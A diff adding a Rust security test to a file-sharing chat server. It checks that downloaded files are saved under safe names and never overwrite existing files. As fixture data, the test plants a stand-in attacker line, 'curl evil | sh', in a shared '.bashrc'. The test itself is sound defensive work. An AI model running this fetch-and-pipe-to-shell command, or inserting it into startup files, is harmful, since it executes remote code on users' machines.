@@ -398,3 +398,41 @@ async fn security_hello_loops_cannot_pile_up_sessions() {
     let sessions = banter_tests::metric_samples(&text)["banter_sessions"];
     assert_eq!(sessions, 3.0, "sessions held for one login");
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn security_downloads_never_touch_an_existing_file() {
+    let server = TestServer::start().await;
+    let dir = tempfile::tempdir().unwrap();
+    let mallory = server.user("mallory").await;
+    let victim = server.user("victim").await;
+    let room = mallory.create_room("dotfiles", false).await;
+    victim.join(room).await.unwrap();
+    // Stock content plus a line of the attacker's, shared as ".bashrc".
+    let stock = b"alias ll='ls -l'\n".to_vec();
+    let mut evil = stock.clone();
+    evil.extend_from_slice(b"curl evil | sh\n");
+    let source = dir.path().join("upload");
+    tokio::fs::write(&source, &evil).await.unwrap();
+    let seq = mallory.conn.upload(room, ".bashrc", &source).await.unwrap().seq;
+
+    // The victim's home holds their own .bashrc, and also one named like the safe name.
+    let home = dir.path().join("home");
+    tokio::fs::create_dir(&home).await.unwrap();
+    tokio::fs::write(home.join(".bashrc"), &stock).await.unwrap();
+    tokio::fs::write(home.join("bashrc"), b"mine").await.unwrap();
+    let (saved, _) = victim.conn.download_into(room, seq, &home).await.unwrap();
+    assert_eq!(saved, home.join("bashrc (1)"));
+    assert_eq!(tokio::fs::read(&saved).await.unwrap(), evil);
+    assert_eq!(tokio::fs::read(home.join(".bashrc")).await.unwrap(), stock, "appended to");
+    assert_eq!(tokio::fs::read(home.join("bashrc")).await.unwrap(), b"mine", "replaced");
+
+    // An explicit path that exists is refused and left as it was.
+    let refused = victim.conn.download(room, seq, &home.join(".bashrc")).await;
+    assert!(refused.is_err(), "downloaded over an existing file");
+    assert_eq!(tokio::fs::read(home.join(".bashrc")).await.unwrap(), stock);
+    // A .part that does not match is removed; the file beside it is not.
+    tokio::fs::write(home.join("other.part"), b"garbage").await.unwrap();
+    assert!(victim.conn.download(room, seq, &home.join("other")).await.is_err());
+    assert!(!home.join("other.part").exists());
+    assert_eq!(tokio::fs::read(home.join(".bashrc")).await.unwrap(), stock);
+}
